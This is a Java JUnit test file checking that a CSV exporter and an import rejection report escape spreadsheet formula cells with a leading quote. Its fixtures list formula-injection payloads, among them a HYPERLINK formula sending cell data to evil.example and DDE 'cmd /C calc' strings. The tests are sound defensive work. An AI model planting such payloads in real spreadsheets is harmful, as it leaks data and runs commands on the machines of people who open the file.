package org.dangan.workflow.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dangan.workflow.registry.importing.ImportTemplate;
import org.dangan.workflow.registry.importing.Rejection;
import org.junit.jupiter.api.Test;

class CsvExportTest {

    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "-5",
            "＝1+1");

    private static List<List<String>> read(byte[] csv) throws IOException {
        try (Reader reader = new InputStreamReader(new ByteArrayInputStream(csv), StandardCharsets.UTF_8)) {
            assertThat(reader.read()).isEqualTo('\uFEFF');
            List<List<String>> rows = new ArrayList<>();
            for (CSVRecord record : CSVFormat.DEFAULT.parse(reader)) {
                rows.add(record.toList());
            }
            return rows;
        }
    }

    @Test
    void cells_a_spreadsheet_would_run_as_formulas_are_written_with_a_leading_quote() throws IOException {
        List<List<String>> rows = read(
                CsvExport.of(List.of("=header"), HOSTILE.stream().map(List::of).toList()));

        assertThat(rows.get(0)).containsExactly("'=header");
        assertThat(rows.subList(1, rows.size()))
                .extracting(r -> r.get(0))
                .allSatisfy(cell -> assertThat(cell).startsWith("'"))
                .containsExactlyElementsOf(HOSTILE.stream().map(v -> "'" + v).toList());
    }

    @Test
    void ordinary_cells_are_written_as_they_are() throws IOException {
        List<List<String>> rows =
                read(CsvExport.of(List.of("姓名", "值"), List.of(List.of("王秀英", "5"), List.of("a=b", ""))));

        assertThat(rows).containsExactly(List.of("姓名", "值"), List.of("王秀英", "5"), List.of("a=b", ""));
    }

    @Test
    void the_rejection_report_neutralises_the_values_and_headers_it_copies_from_an_imported_file() throws IOException {
        List<Rejection> rejections = List.of(
                new Rejection(
                        2, "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "姓名不正确", "import.name.invalid"),
                new Rejection(3, "姓名", "-1+1", "@reason", "import.name.invalid"));

        List<List<String>> rows = read(ImportTemplate.report(List.of("行号", "字段", "填写的值", "原因"), rejections));

        assertThat(rows.get(1))
                .containsExactly("2", "'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example\")", "姓名不正确");
        assertThat(rows.get(2)).containsExactly("3", "姓名", "'-1+1", "'@reason");
    }
}
